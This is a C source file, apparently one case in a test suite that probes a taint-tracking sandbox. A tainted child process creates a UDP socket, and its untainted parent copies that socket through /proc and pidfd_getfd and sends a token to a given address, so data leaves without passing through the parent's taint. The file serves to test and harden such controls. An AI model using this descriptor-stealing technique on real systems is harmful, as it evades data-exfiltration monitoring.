/* socket_handoff.c - attack: a tainted child makes a UDP socket; its untainted parent takes a copy with pidfd_getfd and sends from it to a third party. */
#include <dirent.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "attack.h"

#define ROUTE "socket_handoff"

/* The first socket descriptor PID holds, or -1: found through /proc, so no channel from the child taints us. */
static int socket_fd_of(pid_t pid)
{
	char dir[64], path[320];
	struct dirent *de;
	struct stat st;
	int n = -1;
	DIR *d;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	if (!(d = opendir(dir)))
		return -1;
	while (n < 0 && (de = readdir(d))) {
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		if (de->d_name[0] != '.' && stat(path, &st) == 0 && S_ISSOCK(st.st_mode))
			n = atoi(de->d_name);
	}
	closedir(d);
	return n;
}

/* The parent's part: wait for the child's socket, take it, send on it. */
static int take_and_send(pid_t child, const struct sockaddr_storage *ss, socklen_t len)
{
	char tok[128];
	int pidfd, target = -1, fd;
	size_t n;

	for (int i = 0; i < 100 && target < 0; i++) {
		target = socket_fd_of(child);
		if (target < 0)
			usleep(20000);
	}
	if (target < 0) {
		at_result(ROUTE, "error", "the child made no socket");
		return 1;
	}
	pidfd = (int)syscall(SYS_pidfd_open, child, 0);
	if (pidfd < 0)
		return at_report_errno(ROUTE, "pidfd_open", errno);
	fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);
	if (fd < 0)
		return at_report_errno(ROUTE, "pidfd_getfd", errno);
	n = at_token(tok, sizeof(tok), ROUTE);
	if (sendto(fd, tok, n, 0, (const struct sockaddr *)ss, len) != (ssize_t)n)
		return at_report_errno(ROUTE, "sendto on the tainted child's socket", errno);
	at_result(ROUTE, "through", "the untainted parent sent %zu bytes on the socket its tainted child made", n);
	return 0;
}

/*
 * usage: socket_handoff CAMERA A.B.C.D:PORT
 * The parent never opens a camera and reads nothing the child wrote: it
 * finds the child's socket in /proc and copies it with pidfd_getfd (root
 * here, so ptrace rights). Only the socket itself can say it is tainted.
 */
int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	socklen_t len;
	pid_t child;
	int rc;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[2], &ss, &len);
	fflush(stdout);
	child = fork();
	if (child < 0)
		return at_report_errno(ROUTE, "fork", errno);
	if (child == 0) {
		at_taint(ROUTE, argv[1]);
		if (socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0) < 0)
			_exit(1);
		pause();
		_exit(0);
	}
	rc = take_and_send(child, &ss, len);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return rc;
}
